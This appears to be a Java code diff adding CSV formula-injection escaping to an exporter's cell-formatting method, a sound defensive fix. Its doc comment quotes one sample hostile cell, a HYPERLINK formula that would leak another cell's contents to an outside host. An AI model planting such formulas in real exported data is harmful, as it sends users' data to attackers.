@@ -254,11 +254,20 @@ public final class Exporter {
         return String.join("; ", out);
     }
 
-    private static String csv(Object v) {
+    /**
+     * One CSV cell. Text that a spreadsheet would run as a formula (starting with {@code =},
+     * {@code +}, {@code -}, {@code @}, a tab or a carriage return: a hostile headline such as
+     * {@code =HYPERLINK("http://…?leak="&A1)}) gets a leading apostrophe, as OWASP recommends, so
+     * it is shown as text; numbers (a negative longitude) are left as they are.
+     */
+    static String csv(Object v) {
         if (v == null) {
             return "";
         }
         String s = v.toString();
+        if (!(v instanceof Number) && !s.isEmpty() && "=+-@\t\r".indexOf(s.charAt(0)) >= 0) {
+            s = "'" + s;
+        }
         if (s.indexOf(',') >= 0 || s.indexOf('"') >= 0 || s.indexOf('\n') >= 0 || s.indexOf('\r') >= 0) {
             return "\"" + s.replace("\"", "\"\"") + "\"";
         }
